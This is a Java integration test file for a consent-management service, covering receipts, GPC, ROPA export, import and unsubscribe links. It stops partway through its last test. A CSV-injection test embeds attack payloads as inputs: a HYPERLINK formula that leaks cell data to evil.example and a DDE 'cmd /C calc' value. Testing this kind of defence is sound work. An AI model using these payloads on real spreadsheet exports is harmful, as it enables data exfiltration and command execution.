package org.steward.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.steward.it.ProblemAssert.problem;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.sql.Connection;
import java.time.Duration;
import java.time.OffsetDateTime;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.steward.it.support.Fixtures;
import org.steward.it.support.Http;
import org.steward.it.support.StewardServer;
import org.steward.it.support.Tables;
import org.steward.platform.kernel.api.Csv;

/** The consent module end to end over HTTP: purposes, notices, receipts, GPC, devices, ROPA, import, unsubscribe. */
class ConsentIT {

    static final StewardServer SERVER = StewardServer.shared();
    /** The cookie banner's origin that the test servers allow (STEWARD_CONSENT_CORS_ALLOWED_ORIGINS). */
    static final String BANNER_ORIGIN = StewardServer.BANNER_ORIGIN;
    static final Http HTTP = SERVER.http();
    static String tenant;
    static String subject;
    static String consents;

    @BeforeAll
    static void fixtures() {
        tenant = Fixtures.tenant(HTTP, "CLOUD");
        subject = Fixtures.subject(HTTP, tenant);
        consents = "/api/v1/tenants/" + tenant + "/subjects/" + subject + "/consents";
    }

    /** A notice for a purpose in English; returns its version. */
    static int notice(String purpose, String text) {
        Http.Response r = HTTP.put("/api/v1/consent/purposes/" + purpose + "/notices/en",
                "{\"text\":\"" + text + "\"}");
        assertThat(r.status()).as(r.toString()).isIn(200, 201);
        return r.json().getInt("version");
    }

    static Http.Response raw(Http client, String method, String path, String contentType, String body,
                             String... headers) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(SERVER.uri(path))
                .method(method, body == null ? HttpRequest.BodyPublishers.noBody()
                        : HttpRequest.BodyPublishers.ofString(body));
        if (contentType != null) {
            b.header("Content-Type", contentType);
        }
        for (int i = 0; i < headers.length; i += 2) {
            b.header(headers[i], headers[i + 1]);
        }
        client.authenticate(b);
        HttpResponse<String> r = HttpClient.newHttpClient().send(b.build(), HttpResponse.BodyHandlers.ofString());
        return new Http.Response(r.statusCode(), r.body(), r);
    }

    static String sha256(String s) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(s.getBytes(StandardCharsets.UTF_8)));
    }

    static long count(String sql) throws Exception {
        try (Connection c = SERVER.database().connect()) {
            return Tables.count(c, sql);
        }
    }

    @Test
    void seedsTheNinePurposesOfThePolicyPlusSaleOrSharingAndTheSevenCategories() {
        Http.Response r = HTTP.get("/api/v1/consent/purposes");
        assertThat(r.status()).isEqualTo(200);
        List<String> keys = r.json().getJsonArray("items").stream().map(v -> v.asJsonObject().getString("key")).toList();
        assertThat(keys).contains("communication-support", "app-provision", "product-improvement",
                "anonymised-research", "drip-emails", "web-analytics", "direct-marketing",
                "explicit-consent-marketing", "in-app-analytics", "sale-or-sharing");
        JsonObject sale = HTTP.get("/api/v1/consent/purposes/sale-or-sharing").json();
        assertThat(sale.getString("ccpa")).isEqualTo("SALE");
        assertThat(sale.getBoolean("retired")).as("policy §11: never sold").isTrue();
        JsonObject sharing = HTTP.get("/api/v1/consent/purposes/cross-context-advertising").json();
        assertThat(sharing.getString("ccpa")).isEqualTo("SHARING");
        assertThat(sharing.getString("legalBasis")).isEqualTo("CONSENT");
        assertThat(sharing.getBoolean("optOutAllowed")).isTrue();
        assertThat(sharing.getBoolean("retired")).isFalse();
        assertThat(HTTP.get("/api/v1/consent/purposes/app-provision").json().getString("legalBasis"))
                .isEqualTo("CONTRACT");
        assertThat(HTTP.get("/api/v1/consent/data-categories").json().getJsonArray("items")).hasSizeGreaterThanOrEqualTo(7);
        problem(HTTP.get("/api/v1/consent/purposes/no-such-purpose"), 404, "not-found", "purposeKey");
    }

    @Test
    void adminsAddCategoriesAndPurposes() {
        String u = Fixtures.unique();
        Http.Response c = HTTP.post("/api/v1/consent/data-categories", "{\"key\":\"cat-" + u + "\",\"name\":\"Billing\","
                + "\"description\":\"Invoices\",\"dataSubjects\":\"Customers\"}");
        assertThat(c.status()).as(c.toString()).isEqualTo(201);
        Http.Response p = HTTP.post("/api/v1/consent/purposes", "{\"key\":\"p-" + u + "\",\"name\":\"Newsletter\","
                + "\"description\":\"Monthly news\",\"legalBasis\":\"CONSENT\",\"optOutAllowed\":true,\"email\":true,"
                + "\"categories\":[\"cat-" + u + "\",\"contact\"]}");
        assertThat(p.status()).as(p.toString()).isEqualTo(201);
        assertThat(p.json().getJsonArray("categories")).hasSize(2);
        problem(HTTP.post("/api/v1/consent/purposes", "{\"key\":\"p-" + u + "\",\"name\":\"N\",\"description\":\"d\","
                + "\"legalBasis\":\"CONSENT\",\"categories\":[\"contact\"]}"), 409, "conflict", "key");
        problem(HTTP.post("/api/v1/consent/purposes", "{\"key\":\"q-" + u + "\",\"name\":\"N\",\"description\":\"d\","
                + "\"legalBasis\":\"CONSENT\",\"categories\":[\"nope\"]}"), 400, "validation", "categories");
        problem(SERVER.as(null, "SUPPORT_AGENT").post("/api/v1/consent/data-categories", "{}"), 403, "forbidden");
    }

    @Test
    void noticesAreVersionedByContentAndHashed() throws Exception {
        String purpose = "explicit-consent-marketing";
        String text = "Notice " + Fixtures.unique();
        Http.Response first = HTTP.put("/api/v1/consent/purposes/" + purpose + "/notices/en", "{\"text\":\"" + text + "\"}");
        assertThat(first.status()).isEqualTo(201);
        assertThat(first.json().getString("contentHash")).isEqualTo(sha256(text));
        Http.Response same = HTTP.put("/api/v1/consent/purposes/" + purpose + "/notices/en", "{\"text\":\"" + text + "\"}");
        assertThat(same.status()).isEqualTo(200);
        assertThat(same.json().getInt("version")).isEqualTo(first.json().getInt("version"));
        Http.Response changed = HTTP.put("/api/v1/consent/purposes/" + purpose + "/notices/en",
                "{\"text\":\"" + text + " (changed)\"}");
        assertThat(changed.status()).isEqualTo(201);
        assertThat(changed.json().getInt("version")).isEqualTo(first.json().getInt("version") + 1);
        problem(HTTP.put("/api/v1/consent/purposes/" + purpose + "/notices/EN!", "{\"text\":\"x\"}"), 400,
                "validation", "language");
    }

    @Test
    void aReceiptCanBeFetchedByItsIdAsItWasIssued() throws Exception {
        int v = notice("web-analytics", "We use Google Analytics.");
        Http.Response r = HTTP.post(consents, "{\"purpose\":\"web-analytics\",\"action\":\"GRANT\",\"noticeVersion\":"
                + v + ",\"expiresAt\":\"" + OffsetDateTime.now().plusDays(30) + "\"}");
        assertThat(r.status()).as(r.toString()).isEqualTo(201);
        JsonObject issued = r.json().getJsonObject("receipt");
        String id = issued.getString("receiptId");

        Http.Response got = HTTP.get(consents + "/receipts/" + id);
        assertThat(got.status()).as(got.toString()).isEqualTo(200);
        assertThat(got.json()).isEqualTo(issued);
        Http.Response verified = SERVER.anonymous().post("/api/v1/public/consent/receipts/verification", got.body());
        assertThat(verified.json().getBoolean("valid")).isTrue();
        assertThat(SERVER.as(tenant, "AUDITOR").get(consents + "/receipts/" + id).status()).isEqualTo(200);

        // Another subject's path, an unknown id, a malformed one: not found, naming the receipt.
        String other = "/api/v1/tenants/" + tenant + "/subjects/" + Fixtures.subject(HTTP, tenant) + "/consents";
        problem(HTTP.get(other + "/receipts/" + id), 404, "not-found", "receiptId");
        problem(HTTP.get(consents + "/receipts/" + java.util.UUID.randomUUID()), 404, "not-found", "receiptId");
        problem(HTTP.get(consents + "/receipts/" + "x".repeat(80)), 404, "not-found", "receiptId");
    }

    @Test
    void aGrantAnswersAReceiptThatVerifiesAndATamperedOneDoesNot() throws Exception {
        int v = notice("web-analytics", "We use Google Analytics.");
        Http.Response r = raw(HTTP, "POST", consents, "application/json",
                "{\"purpose\":\"web-analytics\",\"action\":\"GRANT\",\"noticeVersion\":" + v + ","
                        + "\"expiresAt\":\"" + OffsetDateTime.now().plusDays(30) + "\"}",
                "User-Agent", "ConsentIT/1.0");
        assertThat(r.status()).as(r.toString()).isEqualTo(201);
        JsonObject receipt = r.json().getJsonObject("receipt");
        assertThat(r.json().getJsonObject("state").getString("status")).isEqualTo("GRANTED");
        assertThat(receipt.getString("holderRef")).isEqualTo("subject:" + subject);
        assertThat(receipt.getJsonObject("signature").getString("alg")).isEqualTo("Ed25519");
        assertThat(receipt.getString("schemaVersion")).isEqualTo("steward-consent-receipt/2.0 (ISO/IEC TS 27560)");
        assertThat(receipt.getJsonArray("purposes").getJsonObject(0).getInt("noticeVersion")).isEqualTo(v);
        assertThat(receipt.toString()).doesNotContain("127.0.0.1").doesNotContain("ConsentIT/1.0");

        Http anon = SERVER.anonymous();
        Http.Response ok = anon.post("/api/v1/public/consent/receipts/verification", receipt.toString());
        assertThat(ok.status()).as(ok.toString()).isEqualTo(200);
        assertThat(ok.json().getBoolean("valid")).isTrue();
        JsonObject tampered = Json.createObjectBuilder(receipt).add("holderRef", "subject:" + Fixtures.unique()).build();
        Http.Response bad = anon.post("/api/v1/public/consent/receipts/verification", tampered.toString());
        assertThat(bad.json().getBoolean("valid")).isFalse();
        // Relabelled as a schema 1.0 receipt (whose form is checked too), it no longer matches its signature.
        JsonObject relabelled = Json.createObjectBuilder(receipt)
                .add("schemaVersion", "steward-consent-receipt/1.0 (ISO/IEC TS 27560)").build();
        assertThat(anon.post("/api/v1/public/consent/receipts/verification", relabelled.toString()).json()
                .getBoolean("valid")).isFalse();
        JsonObject keys = anon.get("/api/v1/public/consent/receipt-keys").json();
        assertThat(keys.getJsonArray("keys").getJsonObject(0).getString("crv")).isEqualTo("Ed25519");

        JsonObject history = HTTP.get(consents + "/history").json();
        JsonObject last = history.getJsonArray("events").getJsonObject(history.getJsonArray("events").size() - 1);
        assertThat(last.getString("userAgent")).isEqualTo("ConsentIT/1.0");
        assertThat(last.getString("ipHash")).hasSize(64);
        assertThat(history.toString()).doesNotContain("127.0.0.1");

        Http.Response withdraw = HTTP.post(consents, "{\"purpose\":\"web-analytics\",\"action\":\"WITHDRAW\"}");
        assertThat(withdraw.json().getJsonObject("state").getString("status")).isEqualTo("WITHDRAWN");
        assertThat(HTTP.get(consents).json().getJsonArray("items").stream().map(JsonObject.class::cast)
                .filter(o -> o.getString("purpose").equals("web-analytics")).findFirst().orElseThrow()
                .getString("status")).isEqualTo("WITHDRAWN");
        assertThat(HTTP.get(consents).json().getJsonArray("items").stream().map(JsonObject.class::cast)
                .filter(o -> o.getString("purpose").equals("app-provision")).findFirst().orElseThrow()
                .getString("status")).isEqualTo("NONE");
    }

    @Test
    void inAppAnalyticsAndDoNotShareAreOrdinaryOptOuts() {
        for (String p : List.of("in-app-analytics", "cross-context-advertising")) {
            Http.Response r = SERVER.apiKey(tenant, "SERVICE").post(consents, "{\"purpose\":\"" + p + "\",\"action\":\"OPT_OUT\"}");
            assertThat(r.status()).as(r.toString()).isEqualTo(201);
            assertThat(r.json().getJsonObject("state").getString("status")).isEqualTo("OPTED_OUT");
        }
        String other = Fixtures.tenant(HTTP, "CLOUD");
        problem(SERVER.apiKey(other, "SERVICE").post(consents, "{\"purpose\":\"in-app-analytics\",\"action\":\"OPT_OUT\"}"),
                403, "forbidden");
    }

    @Test
    void badInputIsAProblemNamingTheFieldAndWritesNothing() throws Exception {
        int v = notice("explicit-consent-marketing", "Explicit marketing notice");
        long before = count("SELECT COUNT(*) FROM consent_event");
        problem(HTTP.post("/api/v1/tenants/" + tenant + "/subjects/" + java.util.UUID.randomUUID() + "/consents",
                "{\"purpose\":\"drip-emails\",\"action\":\"OPT_OUT\"}"), 404, "not-found", "subjectId");
        problem(HTTP.post(consents, "{\"purpose\":\"no-such\",\"action\":\"OPT_OUT\"}"), 400, "validation", "purpose");
        problem(HTTP.post(consents, "{\"purpose\":\"app-provision\",\"action\":\"GRANT\",\"noticeVersion\":1}"), 422,
                "business-rule", "action");
        problem(HTTP.post(consents, "{\"purpose\":\"direct-marketing\",\"action\":\"GRANT\",\"noticeVersion\":1}"), 422,
                "business-rule", "action");
        problem(HTTP.post(consents, "{\"purpose\":\"explicit-consent-marketing\",\"action\":\"GRANT\",\"noticeVersion\":"
                + v + ",\"expiresAt\":\"2020-01-01T00:00:00Z\"}"), 400, "validation", "expiresAt");
        problem(HTTP.post(consents, "{\"purpose\":\"explicit-consent-marketing\",\"action\":\"GRANT\",\"noticeVersion\":999}"),
                400, "validation", "noticeVersion");
        problem(HTTP.post(consents, "{\"purpose\":\"explicit-consent-marketing\",\"action\":\"GRANT\"}"), 400,
                "validation", "noticeVersion");
        problem(HTTP.post(consents, "{\"purpose\":\"drip-emails\",\"action\":\"OPT_OUT\",\"source\":\"GPC\"}"), 400,
                "validation", "source");
        problem(HTTP.post(consents, "{\"purpose\":\"drip-emails\",\"action\":\"SHRUG\"}"), 400, "validation", "action");
        assertThat(count("SELECT COUNT(*) FROM consent_event")).isEqualTo(before);
    }

    @Test
    void gpcIsRecordedOnceAsAnOptOutOfSharingAndOtherValuesAreIgnored() throws Exception {
        Http anon = SERVER.anonymous();
        String device = "dev-" + java.util.UUID.randomUUID();
        String path = "/api/v1/public/consent/devices/" + device;
        Http.Response ignored = raw(anon, "GET", path, null, null, "Sec-GPC", "true");
        assertThat(ignored.status()).as(ignored.toString()).isEqualTo(200);
        assertThat(ignored.json().getBoolean("gpc")).isFalse();
        assertThat(raw(anon, "GET", path, null, null, "Sec-GPC", "0").json().getJsonArray("receipts")).isEmpty();
        Http.Response first = raw(anon, "GET", path, null, null, "Sec-GPC", "1");
        assertThat(first.json().getJsonArray("receipts")).hasSize(1);
        Http.Response again = raw(anon, "GET", path, null, null, "Sec-GPC", "1");
        assertThat(again.json().getJsonArray("receipts")).isEmpty();
        Http.Response post = raw(anon, "POST", path, "application/json",
                "{\"choices\":[{\"purpose\":\"in-app-analytics\",\"action\":\"OPT_OUT\"}]}", "Sec-GPC", "1");
        assertThat(post.status()).as(post.toString()).isEqualTo(200);
        assertThat(post.json().getJsonArray("receipts")).hasSize(1);
        assertThat(count("SELECT COUNT(*) FROM consent_event WHERE holder_ref = 'device:" + device
                + "' AND source = 'GPC' AND purpose_key = 'cross-context-advertising' AND action = 'OPT_OUT'"))
                .isEqualTo(1);
        assertThat(count("SELECT COUNT(*) FROM consent_event WHERE holder_ref = 'device:" + device
                + "' AND purpose_key = 'sale-or-sharing'")).as("nothing is sold: no opt-out of a sale needed")
                .isZero();
        JsonObject sale = again.json().getJsonArray("choices").stream().map(JsonObject.class::cast)
                .filter(o -> o.getString("purpose").equals("cross-context-advertising")).findFirst().orElseThrow();
        assertThat(sale.getString("status")).isEqualTo("OPTED_OUT");
        assertThat(sale.getString("source")).isEqualTo("GPC");
        problem(anon.get("/api/v1/public/consent/devices/short"), 400, "validation", "deviceId");
        problem(anon.post(path, "{\"choices\":[{\"purpose\":\"app-provision\",\"action\":\"GRANT\"}]}"), 422,
                "business-rule", "choices[0].action");
    }

    @Test
    void wellKnownGpcJsonIsServed() {
        Http.Response r = SERVER.anonymous().get("/.well-known/gpc.json");
        assertThat(r.status()).isEqualTo(200);
        assertThat(r.contentType()).startsWith("application/json");
        assertThat(r.json().getBoolean("gpc")).isTrue();
        assertThat(r.json().getString("lastUpdate")).matches("\\d{4}-\\d{2}-\\d{2}");
    }

    @Test
    void ropaIsExportedAsJsonAndCsv() throws Exception {
        Http.Response json = HTTP.get("/api/v1/inventory/ropa");
        assertThat(json.status()).isEqualTo(200);
        JsonObject drip = json.json().getJsonArray("activities").stream().map(JsonObject.class::cast)
                .filter(o -> o.getString("purposeKey").equals("drip-emails")).findFirst().orElseThrow();
        assertThat(drip.getString("legalBasis")).isEqualTo("LEGITIMATE_INTEREST");
        assertThat(drip.getJsonArray("dataCategories").toString()).contains("Welcome-email activity");
        assertThat(drip.getJsonArray("dataSubjects").toString()).contains("App users");
        // Recipients and transfers come from the subprocessor register: those that receive contact or welcome-email.
        assertThat(drip.getString("recipients")).contains("AWS (INFRASTRUCTURE: Hosting of the apps and their data)")
                .contains("Atlassian Jira Service Management (SUPPORT").doesNotContain("Google Analytics 4")
                .doesNotContain("LinkedIn Ads");
        assertThat(drip.getString("transfers")).contains("AWS: US (STANDARD_CONTRACTUAL_CLAUSES)")
                .contains("monday.com: IL (ADEQUACY_DECISION)");
        // Retention comes from the retention module's policy for each of the purpose's categories.
        assertThat(drip.getString("retention")).contains("welcome-email: erased 30 days after the purpose is fulfilled");
        Http.Response csv = raw(HTTP, "GET", "/api/v1/inventory/ropa", null, null, "Accept", "text/csv");
        assertThat(csv.status()).isEqualTo(200);
        assertThat(csv.contentType()).startsWith("text/csv");
        assertThat(csv.body()).startsWith("purpose_key,purpose,description,legal_basis,");
        assertThat(csv.body()).contains("\r\n").contains("drip-emails,Drip (onboarding) emails,");
        // Descriptions with commas are quoted (RFC 4180).
        assertThat(csv.body()).contains("\"To create user accounts, process billing, manage accounts,");
        problem(SERVER.as(null, "SUPPORT_AGENT").get("/api/v1/inventory/ropa"), 403, "forbidden");
    }

    /** A CSV row by its header's names. */
    static Map<String, String> cells(Csv.Row header, Csv.Row row) {
        Map<String, String> m = new java.util.LinkedHashMap<>();
        for (int i = 0; i < header.fields().size(); i++) {
            m.put(header.fields().get(i), i < row.fields().size() ? row.fields().get(i) : null);
        }
        return m;
    }

    /** Art. 30(1)(a) and (g), on a server where the operator configured none of it: the record says so. */
    @Test
    void ropaNamesTheControllerThePrivacyOfficerAndTheSecurityMeasuresAndSaysWhatIsNotConfigured() throws Exception {
        JsonObject ropa = HTTP.get("/api/v1/inventory/ropa").json();
        JsonObject controller = ropa.getJsonObject("controller");
        assertThat(controller.getString("name")).isEqualTo("Open Source Consulting Inc.");
        assertThat(controller.getString("contact")).isEqualTo("https://cloud-osci.atlassian.net/helpcenter/app/");
        assertThat(controller.getString("address")).isEqualTo("not configured");
        assertThat(ropa.getJsonObject("privacyOfficer").getString("name")).isEqualTo("not configured");
        assertThat(ropa.getJsonObject("privacyOfficer").getString("contact")).isEqualTo("not configured");
        JsonObject measures = ropa.getJsonObject("securityMeasures");
        String technical = measures.getJsonArray("technical").toString();
        assertThat(technical).contains("envelope encryption", "blind indexes", "Role-based access control",
                "hash chain", "Ed25519", "served over plain HTTP");
        assertThat(measures.getString("organisational")).isEqualTo("not configured");
        assertThat(ropa.getString("recipientsAndTransfers")).contains("subprocessor register");

        Http.Response csv = raw(HTTP, "GET", "/api/v1/inventory/ropa", null, null, "Accept", "text/csv");
        List<Csv.Row> rows = Csv.parse(csv.body());
        assertThat(rows.get(0).fields()).endsWith("controller_name", "controller_address", "controller_contact",
                "privacy_officer_name", "privacy_officer_contact", "technical_measures", "organisational_measures");
        Map<String, String> drip = cells(rows.get(0), rows.stream()
                .filter(r -> r.fields().get(0).equals("drip-emails")).findFirst().orElseThrow());
        assertThat(drip).containsEntry("controller_name", "Open Source Consulting Inc.")
                .containsEntry("controller_address", "not configured")
                .containsEntry("privacy_officer_name", "not configured")
                .containsEntry("privacy_officer_contact", "not configured")
                .containsEntry("organisational_measures", "not configured");
        assertThat(drip.get("technical_measures")).contains("envelope encryption", "Role-based access control");
        assertThat(drip.get("recipients")).contains("AWS (INFRASTRUCTURE");
    }

    /** The configured head (the sweeping server sets it) is in the JSON and on every CSV row. */
    @Test
    void ropaCarriesTheConfiguredControllerAndPrivacyOfficerInJsonAndCsv() throws Exception {
        StewardServer configured = StewardServer.sweeping();
        JsonObject ropa = configured.http().get("/api/v1/inventory/ropa").json();
        assertThat(ropa.getJsonObject("controller").getString("address"))
                .isEqualTo(StewardServer.ROPA_CONTROLLER_ADDRESS);
        assertThat(ropa.getJsonObject("privacyOfficer").getString("name")).isEqualTo("Min-jun Park");
        assertThat(ropa.getJsonObject("privacyOfficer").getString("contact")).isEqualTo("privacy@osci.example");
        assertThat(ropa.getJsonObject("securityMeasures").getString("organisational"))
                .isEqualTo("Access rights reviewed every quarter");
        HttpRequest.Builder b = HttpRequest.newBuilder(configured.uri("/api/v1/inventory/ropa"))
                .header("Accept", "text/csv");
        configured.http().authenticate(b);
        String body = HttpClient.newHttpClient().send(b.build(), HttpResponse.BodyHandlers.ofString()).body();
        List<Csv.Row> rows = Csv.parse(body);
        assertThat(rows).hasSizeGreaterThan(1);
        for (Csv.Row row : rows.subList(1, rows.size())) {
            Map<String, String> cells = cells(rows.get(0), row);
            assertThat(cells).containsEntry("controller_address", StewardServer.ROPA_CONTROLLER_ADDRESS)
                    .containsEntry("privacy_officer_name", "Min-jun Park")
                    .containsEntry("privacy_officer_contact", "privacy@osci.example")
                    .containsEntry("organisational_measures", "Access rights reviewed every quarter");
        }
    }

    /** A value that a spreadsheet would run as a formula is exported as text (OWASP CSV injection). */
    @Test
    void ropaCsvCellsThatStartLikeAFormulaAreWrittenAsText() throws Exception {
        String u = Fixtures.unique();
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click " + u + "\")";
        Http.Response p = HTTP.post("/api/v1/consent/purposes", Json.createObjectBuilder().add("key", "f-" + u)
                .add("name", formula).add("description", "@SUM(1+1)*cmd|' /C calc'!A0").add("legalBasis", "CONTRACT")
                .add("categories", Json.createArrayBuilder().add("contact")).build().toString());
        assertThat(p.status()).as(p.toString()).isEqualTo(201);
        Http.Response csv = raw(HTTP, "GET", "/api/v1/inventory/ropa", null, null, "Accept", "text/csv");
        List<Csv.Row> rows = Csv.parse(csv.body());
        Map<String, String> row = cells(rows.get(0), rows.stream()
                .filter(r -> r.fields().get(0).equals("f-" + u)).findFirst().orElseThrow());
        assertThat(row).containsEntry("purpose", "'" + formula)
                .containsEntry("description", "'@SUM(1+1)*cmd|' /C calc'!A0");
        // No cell of the export starts like a formula.
        for (Csv.Row r : rows) {
            assertThat(r.fields()).noneMatch(f -> !f.isEmpty() && "=+-@\t\r".indexOf(f.charAt(0)) >= 0);
        }
        // The JSON keeps the value as it was given.
        assertThat(HTTP.get("/api/v1/inventory/ropa").body()).contains("\"purpose\":\"=HYPERLINK(");
    }

    @Test
    void importReportsBadLinesAndAReImportIsIdempotent() throws Exception {
        String s2 = Fixtures.subject(HTTP, tenant);
        JsonObject published = HTTP.put("/api/v1/consent/purposes/web-analytics/notices/en",
                "{\"text\":\"We use Google Analytics.\"}").json();
        int v = published.getInt("version");
        OffsetDateTime shown = OffsetDateTime.parse(published.getString("createdAt"));
        String jsonl = String.join("\n",
                "{\"externalId\":\"crm-1\",\"subjectId\":\"" + s2 + "\",\"purpose\":\"drip-emails\",\"action\":\"OPT_OUT\",\"occurredAt\":\"2025-03-01T10:00:00Z\"}",
                "{\"subjectId\":\"" + s2 + "\",\"purpose\":\"web-analytics\",\"action\":\"GRANT\",\"noticeVersion\":" + v + ",\"occurredAt\":\"" + shown.plusSeconds(1) + "\"}",
                "{broken",
                "{\"subjectId\":\"" + s2 + "\",\"purpose\":\"app-provision\",\"action\":\"GRANT\",\"noticeVersion\":1,\"occurredAt\":\"2025-03-02T10:00:00Z\"}",
                "{\"subjectId\":\"" + java.util.UUID.randomUUID() + "\",\"purpose\":\"drip-emails\",\"action\":\"OPT_OUT\",\"occurredAt\":\"2025-03-02T10:00:00Z\"}",
                "{\"subjectId\":\"" + s2 + "\",\"purpose\":\"web-analytics\",\"action\":\"GRANT\",\"noticeVersion\":999,\"occurredAt\":\"2025-03-02T10:00:00Z\"}",
                // A grant before the notice it cites was published: that text cannot have been shown.
                "{\"subjectId\":\"" + s2 + "\",\"purpose\":\"web-analytics\",\"action\":\"GRANT\",\"noticeVersion\":" + v + ",\"occurredAt\":\"" + shown.minusDays(1) + "\"}");
        String path = "/api/v1/tenants/" + tenant + "/consent-imports";
        Http.Response first = raw(HTTP, "POST", path, "application/x-ndjson", jsonl);
        assertThat(first.status()).as(first.toString()).isEqualTo(200);
        assertThat(first.json().getInt("imported")).isEqualTo(2);
        assertThat(first.json().getInt("failed")).isEqualTo(5);
        assertThat(first.json().getJsonArray("errors").stream().map(JsonObject.class::cast)
                .map(o -> o.getInt("line") + ":" + o.getString("field")).toList())
                .containsExactly("3:line", "4:action", "5:subjectId", "6:noticeVersion", "7:occurredAt");
        assertThat(first.json().getJsonArray("errors").getJsonObject(4).getString("message"))
                .contains("before notice version " + v);
        Http.Response again = raw(HTTP, "POST", path, "application/x-ndjson", jsonl);
        assertThat(again.json().getInt("imported")).isZero();
        assertThat(again.json().getInt("duplicates")).isEqualTo(2);
        assertThat(count("SELECT COUNT(*) FROM consent_event WHERE holder_ref = 'subject:" + s2 + "'")).isEqualTo(2);

        String csv = "externalId,subjectId,purpose,action,occurredAt\r\n"
                + "crm-1," + s2 + ",drip-emails,OPT_OUT,2025-03-01T10:00:00Z\r\n"
                + "crm-2," + s2 + ",\"in-app-analytics\",OPT_OUT,2025-03-03T10:00:00Z\r\n"
                + "crm-3," + s2 + ",in-app-analytics,OPT_OUT,not-a-time\r\n";
        Http.Response c = raw(HTTP, "POST", path, "text/csv", csv);
        assertThat(c.status()).as(c.toString()).isEqualTo(200);
        assertThat(c.json().getInt("imported")).isEqualTo(1);
        assertThat(c.json().getInt("duplicates")).isEqualTo(1);
        assertThat(c.json().getJsonArray("errors").getJsonObject(0).getString("field")).isEqualTo("occurredAt");
        JsonObject states = HTTP.get("/api/v1/tenants/" + tenant + "/subjects/" + s2 + "/consents").json();
        assertThat(states.getJsonArray("items").stream().map(JsonObject.class::cast)
                .filter(o -> o.getString("purpose").equals("in-app-analytics")).findFirst().orElseThrow()
                .getString("status")).isEqualTo("OPTED_OUT");
    }

    @Test
    void aCsvImportNamesPhysicalLinesAndReportsAnUnclosedQuoteOnItsLine() throws Exception {
        String s4 = Fixtures.subject(HTTP, tenant);
        String path = "/api/v1/tenants/" + tenant + "/consent-imports";
        // A byte-order mark, CRLF, a quoted field over two lines: the bad line is the 4th physical line.
        String csv = "\uFEFFexternalId,subjectId,purpose,action,occurredAt\r\n"
                + "\"crm-q1\r\nsecond line\"," + s4 + ",drip-emails,OPT_OUT,2025-04-01T10:00:00Z\r\n"
                + "crm-q2," + s4 + ",drip-emails,SHRUG,2025-04-02T10:00:00Z\r\n";
        Http.Response c = raw(HTTP, "POST", path, "text/csv", csv);
        assertThat(c.status()).as(c.toString()).isEqualTo(200);
        assertThat(c.json().getInt("imported")).isEqualTo(1);
        assertThat(c.json().getJsonArray("errors").stream().map(JsonObject.class::cast)
                .map(o -> o.getInt("line") + ":" + o.getString("field")).toList()).containsExactly("4:action");
        // A quote that never closes: the rest cannot be read, and the report names the line its record starts on.
        Http.Response open = raw(HTTP, "POST", path, "text/csv", "externalId,subjectId,purpose,action,occurredAt\n"
                + "\"crm-q3," + s4 + ",drip-emails,OPT_OUT,2025-04-03T10:00:00Z\n");
        assertThat(open.status()).as(open.toString()).isEqualTo(200);
        assertThat(open.json().getInt("imported")).isZero();
        JsonObject error = open.json().getJsonArray("errors").getJsonObject(0);
        assertThat(error.getInt("line") + ":" + error.getString("field")).isEqualTo("2:line");
        assertThat(error.getString("message")).isEqualTo("a quoted field is not closed");
    }

    @Test
    void unsubscribeLinksShowAConfirmationAndOneClickPostWithdrawsAtOnce() throws Exception {
        String s3 = Fixtures.subject(HTTP, tenant);
        String base = "/api/v1/tenants/" + tenant + "/subjects/" + s3 + "/consents";
        Http.Response link = HTTP.post(base + "/unsubscribe-links", "{\"purpose\":\"drip-emails\"}");
        assertThat(link.status()).as(link.toString()).isEqualTo(201);
        String url = link.json().getString("url");
        assertThat(url).startsWith(StewardServer.PUBLIC_URL + "/api/v1/public/unsubscribe/");
        assertThat(link.json().containsKey("expiresAt")).as("links do not expire").isFalse();
        String path = URI.create(url).getRawPath();
        assertThat(link.json().getString("listUnsubscribePost")).isEqualTo("List-Unsubscribe=One-Click");

        Http anon = SERVER.anonymous();
        Http.Response page = anon.get(path);
        assertThat(page.status()).isEqualTo(200);
        assertThat(page.contentType()).startsWith("text/html");
        assertThat(page.body()).contains("<form method=\"post\"").doesNotContain("<script");
        assertThat(count("SELECT COUNT(*) FROM consent_event WHERE holder_ref = 'subject:" + s3 + "'")).isZero();

        Http.Response post = raw(anon, "POST", path, "application/x-www-form-urlencoded", "List-Unsubscribe=One-Click");
        assertThat(post.status()).as(post.toString()).isEqualTo(200);
        assertThat(post.contentType()).startsWith("text/html");
        assertThat(raw(anon, "POST", path, "application/x-www-form-urlencoded", "List-Unsubscribe=One-Click").status())
                .isEqualTo(200);
        assertThat(count("SELECT COUNT(*) FROM consent_event WHERE holder_ref = 'subject:" + s3
                + "' AND purpose_key = 'drip-emails' AND action = 'OPT_OUT' AND source = 'EMAIL_LINK'")).isEqualTo(1);

        // A person gets a page, never JSON: a forged or garbled link, a POST that is not the one-click form.
        String token = path.substring(path.lastIndexOf('/') + 1);
        String prefix = path.substring(0, path.lastIndexOf('/') + 1);
        String forged = token.substring(0, token.length() - 3) + (token.endsWith("AAA") ? "BBB" : "AAA");
        for (Http.Response bad : List.of(anon.get(prefix + forged), anon.get(prefix + "v1.bm90LWEtdG9rZW4.AAAA"),
                raw(anon, "POST", prefix + forged, "application/x-www-form-urlencoded", "List-Unsubscribe=One-Click"),
                raw(anon, "POST", path, "application/x-www-form-urlencoded", "List-Unsubscribe=Later"),
                raw(anon, "POST", path, "application/json", "{\"List-Unsubscribe\":\"One-Click\"}"))) {
            assertThat(bad.status()).as(bad.toString()).isEqualTo(400);
            assertThat(bad.contentType()).as(bad.toString()).startsWith("text/html");
            assertThat(bad.body()).startsWith("<!DOCTYPE html>").doesNotContain("\"type\"");
        }
        assertThat(anon.get(prefix + forged).body()).contains("does not work");

        // RFC 8058 one-click as multipart/form-data, on a link minted "for a second" (validFor is ignored now):
        // mail is read long after it was sent, and its link must still unsubscribe.
        Http.Response aged = HTTP.post(base + "/unsubscribe-links", "{\"purpose\":\"direct-marketing\",\"validFor\":\"PT1S\"}");
